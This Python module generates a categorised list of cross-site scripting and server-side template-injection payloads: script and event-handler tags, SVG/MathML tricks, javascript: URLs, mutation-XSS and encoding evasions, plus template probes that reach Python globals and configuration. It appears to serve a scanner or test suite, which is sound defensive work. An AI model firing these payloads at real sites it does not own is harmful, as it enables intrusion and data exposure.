"""Texts that become code where a page takes them for markup, by class. Each calls `alert(1)`, or would show 9359 for 1337*7."""

from __future__ import annotations

_CALL = "alert(1)"
_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", '" ', "' ", "`")
"""Ways out of where a text may stand: an attribute, an element of plain text, a comment."""
_TAGS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script\n>{_CALL}</script\t>",
    f"<script/x>{_CALL}</script>",
    f'<script src="data:text/javascript,{_CALL}"></script>',
    f'<iframe srcdoc="<script>parent.{_CALL}</script>"></iframe>',
    f'<iframe src="javascript:parent.{_CALL}"></iframe>',
    f'<object data="javascript:{_CALL}"></object>',
    f'<embed src="javascript:{_CALL}">',
    f'<base href="javascript:{_CALL}//">',
    f'<meta http-equiv=refresh content="0;url=javascript:{_CALL}">',
    f'<link rel=stylesheet href="data:text/css,x" onerror={_CALL}>',
    f'<form action="javascript:{_CALL}"><input type=submit autofocus></form>',
    f"<style>@import 'javascript:{_CALL}';</style>",
    f"<template><script>{_CALL}</script></template>",
)
_EVENTS = (
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img/src="x"/onerror="{}">', "<image src=x onerror={}>",
    "<body onload={}>", "<body onpageshow={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>", "<details open ontoggle={}>x</details>", "<video onerror={}><source src=x></video>",
    "<audio src=x onerror={}>", "<marquee onstart={}>x</marquee>", "<a autofocus tabindex=1 onfocus={}>x</a>",
    "<p style=\"animation:x 1s\" onanimationstart={}>x</p>", "<iframe onload={}></iframe>", "<object data=x onerror={}>",
    "<link rel=preload href=x as=image onerror={}>", "<svg onload={}>", "<math><mi onfocus={} tabindex=1 autofocus>x</mi></math>",
)  # fmt: skip
_ATTRIBUTES = (
    "onmouseover={} x=", "autofocus onfocus={} x=", "onerror={} src=x ", "style=animation-name:x onanimationstart={} ",
    "accesskey=x onclick={} ", "formaction=javascript:{} ", "href=javascript:{} ", "srcdoc=<script>{}</script> ",
)  # fmt: skip
_FOREIGN = (
    "<svg><script>{}</script></svg>", "<svg/onload={}>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>", "<svg><a xlink:href=javascript:{}><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{}</script></svg>#x\"></svg>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>", "<svg><image href=x onerror={}></svg>",
    "<svg><style><img src=x onerror={}></style></svg>", "<math href=javascript:{}>x</math>",
    "<math><mtext><img src=x onerror={}></mtext></math>", "<math><annotation-xml encoding=text/html><img src=x onerror={}>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>x</maction></math>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}", "javascript&colon;{}",
    "javascript://x%0a{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[x](javascript:{})", "![x](x \"onerror={}\")", "<javascript:{}>", "[x]: javascript:{}", "https://x.example/\"onclick=\"{}",
)  # fmt: skip
_BRACES = (
    "{{1337*7}}", "{{{1337*7}}}", "${1337*7}", "#{1337*7}", "<%= 1337*7 %>", "{% if 1 %}{{1337*7}}{% endif %}", "[[1337*7]]",
    "{{constructor.constructor('alert(1)')()}}", "{{config}}", "{{''.__class__.__mro__}}", "{{cycler.__init__.__globals__.os}}",
    "*{1337*7}", "@(1337*7)", "{{7|attr('__class__')}}", "%7B%7B1337*7%7D%7D",
)  # fmt: skip
_MUTATION = (
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<svg></p><style><a id=\"</style><img src=x onerror={}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={}&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>", "<xmp><p title=\"</xmp><img src=x onerror={}>\">",
    "<select><template><img src=x onerror={}></template></select>", "<table><td background=javascript:{}><img src=x onerror={}>",
    "<listing>&lt;img src=x onerror={}&gt;</listing>", "<plaintext><img src=x onerror={}>", "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>", "<?xml version=\"1.0\"?><img src=x onerror={}>", "<a href=\"x`<img src=x onerror={}>\">x</a>",
)  # fmt: skip
_ENCODED = (
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "&#x3c;img src=x onerror={}&#x3e;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "＜script＞{}＜/script＞", "‹script›{}‹/script›",
    "+ADw-script+AD4-{}+ADw-/script+AD4-", "<scr\u200bipt>{}</scr\u200bipt>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "&amp;lt;script&amp;gt;{}", "%253Cscript%253E{}", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", "<\u0000script>{}</script>",
)  # fmt: skip


def _filled(forms: tuple[str, ...], *outs: str) -> list[str]:
    return [out + form.replace("{}", _CALL) for form in forms for out in outs]


CLASSES: dict[str, list[str]] = {
    "tags": _filled(_TAGS, *_OUT[:6]),
    "events": _filled(_EVENTS, *_OUT[:5]),
    "attributes": _filled(_ATTRIBUTES, '" ', "' ", "` "),
    "svg and mathml": _filled(_FOREIGN, "", '">', "</title>"),
    "addresses": _filled(_ADDRESSES, ""),
    "braces": _filled(_BRACES, "", '">'),
    "mutation": _filled(_MUTATION, "", *_OUT[7:9]),
    "encodings": _filled(_ENCODED, "", '">'),
}
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(payload for rows in CLASSES.values() for payload in rows))
